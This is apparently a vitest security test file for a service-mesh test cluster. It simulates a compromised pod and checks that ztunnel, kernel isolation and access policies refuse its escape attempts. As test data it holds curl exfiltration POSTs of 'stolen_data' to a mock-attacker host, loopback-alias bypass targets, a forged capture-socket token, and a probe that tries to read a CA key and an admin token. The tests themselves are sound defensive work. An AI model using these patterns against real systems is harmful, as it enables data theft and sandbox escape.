// A rug-pulled workload tries every other exit. Each attack runs from inside a real pod of a running cluster
// (the way a rug-pulled image runs) and is refused; each has its clean control beside it.
//  - node-local addresses: the attacker's host port on 127.0.0.1, `localhost`, `127.1`, `[::1]`, the node's
//    own interface address — refused by ztunnel whatever the policies, while the in-mesh call goes through;
//  - the engine itself: a raw libuv handle to the admin socket, UDP and a DNS resolver of its own — no
//    network and no admin socket in a kernel-isolated pod;
//  - another identity: a pod's capture socket speaks for that pod only, and exec'd programs run in the pod's
//    sandbox, unable to read the CA or the admin token;
//  - around the waypoint: an agent guarded by an AccessPolicy refuses connections to its pod address.
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { hostname, networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AGENT_POLICIES } from '../src/cli/commands/policies.ts';
import { readManifestDocuments } from '../src/control-plane/cluster.ts';
import { encodePreamble } from '../src/mesh/capture/protocol.ts';
import { adminSocketPath } from '../src/runtime/stack-state.ts';
import { runCli } from './support/cli.ts';
import { forwardToPod, startTestCluster, type TestCluster } from './support/cluster.ts';

const VENDORS = 'trustusbank-bank-vendors';
const ESCAPE_DEPLOYMENT = `apiVersion: apps/v1
kind: Deployment
metadata: { name: escape-test, namespace: ${VENDORS} }
spec:
  selector: { matchLabels: { app: escape-test } }
  template:
    metadata: { labels: { app: escape-test } }
    spec:
      containers:
        - name: escape-test
          image: trustusbank/escape-test:1.0.0
          ports: [{ containerPort: 8080 }]
`;

describe('a compromised pod trying every other exit', () => {
  let t: TestCluster;
  let attackerPort: number;
  let udp: UdpSocket;
  const udpReceived: string[] = [];
  beforeAll(async () => {
    t = await startTestCluster();
    attackerPort = Number(new URL(t.cluster.forwards.find((f) => f.service === 'mock-attacker')!.url).port);
    const digest = await t.cluster.images.build(join(import.meta.dirname, 'fixtures', 'escape-pod.ts'));
    t.cluster.images.tag('trustusbank/escape-test:1.0.0', digest);
    await t.cluster.engine.apply([{ file: 'escape.yaml', text: ESCAPE_DEPLOYMENT }]);
    await t.cluster.engine.waitReady(30_000);
    udp = createSocket('udp4');
    udp.on('message', (message) => udpReceived.push(message.toString()));
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  }, 120_000);
  afterAll(async () => {
    udp?.close();
    await t?.close();
  });

  const exfil = (url: string) => t.curlFrom(VENDORS, 'currency-converter', ['-s', '-X', 'POST', '-d', '{"stolen_data":{"name":"Alex Carter"}}', url]);

  it('lets the converter reach the attacker through the mesh while no policy applies (the control)', async () => {
    const before = (await t.attackerLoot()).count;
    const sent = await exfil('http://mock-attacker.external-attacker.svc.cluster.local:8080/exfil');
    expect(sent.code).toBe(0);
    expect((await t.attackerLoot()).count).toBe(before + 1);
  });

  it('never carries a pod to the node itself, by any name, with no policy applied at all', async () => {
    const before = (await t.attackerLoot()).count;
    const nodeAddress = Object.values(networkInterfaces())
      .flat()
      .find((entry) => entry && !entry.internal && entry.family === 'IPv4')?.address;
    // 127.1 and [::ffff:127.0.0.1] as a URL parser rewrites them (127.0.0.1, [::ffff:7f00:1]); the machine's
    // own name as its resolver answers it.
    const targets = [`127.0.0.1:${attackerPort}`, `localhost:${attackerPort}`, `127.1:${attackerPort}`, `[::1]:${attackerPort}`, `0.0.0.0:${attackerPort}`, `[::ffff:127.0.0.1]:${attackerPort}`, `${hostname()}:${attackerPort}`];
    if (nodeAddress) targets.push(`${nodeAddress}:${attackerPort}`);
    for (const target of targets) {
      const attempt = await exfil(`http://${target}/exfil`);
      expect({ target, code: attempt.code }).toEqual({ target, code: 56 });
    }
    expect((await t.attackerLoot()).count).toBe(before);
    const refusals = t
      .ztunnelLog()
      .split('\n')
      .filter((line) => line.includes('"direction":"outbound"') && line.includes('refused:'));
    expect(refusals.length).toBeGreaterThanOrEqual(targets.length);
    expect(refusals.join('\n')).toContain('127.0.0.1 is a loopback address (the node itself)');
    expect(refusals.join('\n')).toContain('::ffff:7f00:1 is a loopback address (the node itself)');
    expect(refusals.join('\n')).toMatch(new RegExp(`${hostname().replace(/\./g, '\\.')} (resolves to \\S+, which is|does not resolve)`));
    expect(refusals.join('\n')).toMatch(/localhost is the node itself/);
    if (nodeAddress) expect(refusals.join('\n')).toContain("one of the node's own addresses");
    // Counted like any other refused connection, on the converter's identity.
    expect(await t.metricsText()).toMatch(/istio_tcp_connections_failed_total\{[^}]*source_principal="spiffe:\/\/cluster\.local\/ns\/trustusbank-bank-vendors\/sa\/currency-converter"[^}]*response_flags="NR"[^}]*\} [1-9]/);
   }, 120_000);

  it('gives a pod no network, no admin socket and no resolver outside its capture socket where the kernel isolates pods', async () => {
    const pod = t.cluster.engine.podsOf(VENDORS, 'escape-test')[0]!;
    const forward = await forwardToPod(pod, 8080);
    try {
      const query = new URLSearchParams({ raw: '1', socket: adminSocketPath(t.dataDir), udp: String(udp.address().port) });
      const attempts = (await (await fetch(`${forward.url}/attempts?${query}`)).json()) as Record<string, string>;
      // Through the shim: refused in both modes.
      expect(attempts.unixSocket).toBe('blocked: EACCES');
      if (t.cluster.isolation.mode === 'kernel') {
        // Around the shim: the kernel. The admin socket does not exist in the pod's view (-2 is ENOENT).
        expect(attempts).toMatchObject({ rawUnixSocket: 'blocked: -2', udp: 'blocked: ENETUNREACH' });
        expect(attempts.dns).toMatch(/^blocked: /);
        expect(udpReceived).toEqual([]);
      } else {
        // Shim only: what the README says this mode cannot stop — and the admin API still wants its token.
        expect(attempts).toMatchObject({ rawUnixSocket: 'allowed', udp: 'allowed' });
      }
      // The pod is still up: none of it crashed the pod.
      expect((await fetch(`${forward.url}/healthz`)).status).toBe(200);
    } finally {
      await forward.close();
    }
  });

  it('takes a connection on a pod’s capture socket as that pod only: another pod’s token is dropped', async () => {
    const converter = t.cluster.engine.podsOf(VENDORS, 'currency-converter')[0]!;
    const account = t.cluster.engine.podsOf('trustusbank-bank-mcp', 'account-mcp')[0]!;
    const before = (await t.attackerLoot()).count;
    const attempt = (token: string) =>
      new Promise<number>((resolve) => {
        const socket = connect(converter.template.launch.capture.ztunnel, () => {
          socket.write(encodePreamble(token, 'mock-attacker.external-attacker', 8080));
          socket.write('POST /exfil HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}');
        });
        let bytes = 0;
        socket.on('data', (chunk: Buffer) => (bytes += chunk.length));
        socket.on('error', () => resolve(bytes));
        socket.on('close', () => resolve(bytes));
      });
    expect(await attempt(account.token)).toBe(0);
    expect((await t.attackerLoot()).count).toBe(before);
    // The converter's own token on its own socket is the converter (the control).
    expect(await attempt(converter.token)).toBeGreaterThan(1);
    expect((await t.attackerLoot()).count).toBe(before + 1);
  });

  it('runs exec’d programs in the pod’s sandbox: no CA key, no admin token, no other volume; its mesh calls still work', async () => {
    const script = join(t.dataDir, 'volumes', VENDORS, 'currency-converter', 'probe.mjs');
    writeFileSync(
      script,
      `import fs from 'node:fs';
const read = (path) => { try { fs.readFileSync(path); return 'read'; } catch (error) { return error.code; } };
console.log(JSON.stringify({ ca: read(${JSON.stringify(join(t.dataDir, 'ca', 'ca.key'))}), token: read(${JSON.stringify(join(t.dataDir, 'run', 'admin.token'))}), volume: read(${JSON.stringify(join(t.dataDir, 'volumes', 'trustusbank-bank-mcp', 'account-mcp', 'bank', 'accounts.sqlite'))}) }));
`,
    );
    const probe = await runCli(['exec', '--data-dir', t.dataDir, '-n', VENDORS, 'currency-converter', '--', 'node', script]);
    expect(probe.code).toBe(0);
    const outcome = JSON.parse(probe.stdout) as Record<string, string>;
    for (const value of Object.values(outcome)) expect(['ERR_ACCESS_DENIED', 'ENOENT']).toContain(value);
    const health = await t.curlFrom(VENDORS, 'currency-converter', ['-s', 'http://account-mcp.trustusbank-bank-mcp:8080/healthz']);
    expect(health.code).toBe(0);
    expect(JSON.parse(health.stdout)).toMatchObject({ status: 'ok' });
  });

  it('carries a pod’s node:http client, which listens for data while still connecting, and keeps its connection alive', async () => {
    // node:http attaches its 'data' listener before the socket is up; the capture holds 'connect' until ztunnel's
    // ack, so it must read that ack itself (this once hung every node:http request from a pod).
    const script = join(t.dataDir, 'volumes', VENDORS, 'currency-converter', 'http-client.mjs');
    writeFileSync(
      script,
      `import { Agent, get } from 'node:http';
const agent = new Agent({ keepAlive: true, maxSockets: 1 });
const call = () => new Promise((resolve, reject) => {
  const req = get('http://account-mcp.trustusbank-bank-mcp:8080/healthz', { agent }, (res) => {
    let body = '';
    res.on('data', (chunk) => (body += chunk));
    res.on('end', () => resolve({ status: res.statusCode, body: JSON.parse(body), reused: req.reusedSocket }));
  }).on('error', reject);
});
const calls = [await call(), await call()];
agent.destroy();
console.log(JSON.stringify(calls));
`,
    );
    const run = await runCli(['exec', '--data-dir', t.dataDir, '-n', VENDORS, 'currency-converter', '--', 'node', script]);
    expect(run.code, run.stderr).toBe(0);
    expect(JSON.parse(run.stdout)).toEqual([
      { status: 200, body: expect.objectContaining({ status: 'ok', workload: 'account-mcp' }), reused: false },
      { status: 200, body: expect.objectContaining({ status: 'ok', workload: 'account-mcp' }), reused: true },
    ]);
  });

  it('holds an AccessPolicy at L4: a guarded agent’s pod address refuses even an allowed caller, its Service still serves it', async () => {
    await t.cluster.engine.apply(readManifestDocuments(AGENT_POLICIES, []));
    await t.cluster.waypoints.sync();
    const fraud = t.cluster.engine.podsOf('trustusbank-bank-agents', 'fraud-bot')[0]!;
    const fromTriage = (url: string) => t.curlFrom('trustusbank-bank-agents', 'triage-bot', ['-s', '-i', url]);
    // triage-bot may call fraud-bot: through the Service (and so the waypoint) it is served...
    const viaService = await fromTriage('http://fraud-bot.trustusbank-bank-agents:8080/.well-known/agent-card.json');
    expect(viaService.stdout).toMatch(/^HTTP\/1\.1 200/);
    // ...but not at the pod's own address, which would skip the waypoint's checks.
    const direct = await fromTriage(`http://${fraud.ip}:8080/.well-known/agent-card.json`);
    expect(direct.code).toBe(56);
    expect(t.ztunnelLog()).toContain('explicitly denied by: trustusbank-bank-agents/fraud-bot-only-via-waypoint');
    // The converter is refused on both paths.
    const converter = await t.curlFrom(VENDORS, 'currency-converter', ['-s', `http://${fraud.ip}:8080/`]);
    expect(converter.code).toBe(56);
    await t.cluster.engine.delete(readManifestDocuments(AGENT_POLICIES, []));
  });
});
